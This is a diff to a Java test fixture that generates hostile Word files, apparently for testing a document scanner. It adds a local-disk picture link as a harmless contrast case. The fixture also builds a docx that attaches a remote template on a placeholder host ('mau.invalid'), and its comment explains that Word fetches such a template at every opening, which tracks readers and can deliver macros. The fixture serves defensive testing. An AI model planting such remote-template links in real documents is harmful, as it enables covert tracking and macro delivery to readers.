@@ -181,7 +181,8 @@ public final class HostileFiles {
 
     /**
      * {@code docx} attached to a template on a web server (Word fetches it at every opening: the address learns who
-     * reads, and a hostile template brings macros), beside an ordinary hyperlink, which is allowed.
+     * reads, and a hostile template brings macros), beside an ordinary hyperlink and a picture linked on the
+     * officer's own disk, which fetch nothing when the document opens elsewhere.
      */
     public static Path withRemoteTemplate(Path docx, Path out) throws IOException {
         String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\""
@@ -189,7 +190,9 @@ public final class HostileFiles {
                 + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
                 + "http://mau.invalid/mau.dotm\" TargetMode=\"External\"/><Relationship Id=\"rId2\" Type=\""
                 + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\""
-                + "https://dichvucong.gov.vn/\" TargetMode=\"External\"/></Relationships>";
+                + "https://dichvucong.gov.vn/\" TargetMode=\"External\"/><Relationship Id=\"rId3\" Type=\""
+                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image\" Target=\""
+                + "file:///C:/Users/VanPhong/Pictures/logo.png\" TargetMode=\"External\"/></Relationships>";
         return rewrite(docx, out, "word/document.xml", xml -> xml,
                 Map.of("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8)));
     }
